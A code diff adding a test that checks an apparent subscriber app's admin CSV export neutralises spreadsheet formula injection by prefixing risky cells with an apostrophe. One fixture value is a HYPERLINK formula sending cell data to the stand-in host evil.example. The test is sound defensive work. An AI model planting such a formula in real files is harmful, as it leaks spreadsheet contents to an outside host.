@@ -864,6 +864,38 @@ def test_admin_export_csv(stack, app):
     ]
 
 
+def test_admin_export_csv_defuses_formulas(stack, app):
+    """A cell a spreadsheet would run as a formula starts with an apostrophe (OWASP)."""
+    settings = stack.settings
+    formula = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
+    people = [
+        ("a@example.com", formula),
+        ("-b@example.com", "+1 guy"),
+        ("c@example.com", "-minus"),
+        ("d@example.com", "@mention"),
+        ("e@example.com", "Ann = Bob"),
+    ]
+    file = io.StringIO()
+    csv.writer(file).writerows([("email", "first_name"), *people])
+    with session_scope(settings.database_url) as session:
+        report = import_subscribers(
+            session, settings, sequences(settings), file.getvalue().encode(), now=utcnow()
+        )
+    assert report.imported == len(people), report.lines()
+    admin = signed_in(app, settings, "admin")
+
+    rows = list(csv.DictReader(io.StringIO(page(admin.get("/admin/subscribers/export.csv")))))
+
+    assert [(r["email"], r["first_name"]) for r in rows] == [
+        ("a@example.com", "'" + formula),
+        ("'-b@example.com", "'+1 guy"),
+        ("c@example.com", "'-minus"),
+        ("d@example.com", "'@mention"),
+        ("e@example.com", "Ann = Bob"),
+    ]
+    assert all(r["timezone"] == "UTC" and r["status"] == "pending" for r in rows)
+
+
 # --- 5. /metrics ---------------------------------------------------------------------
 
 
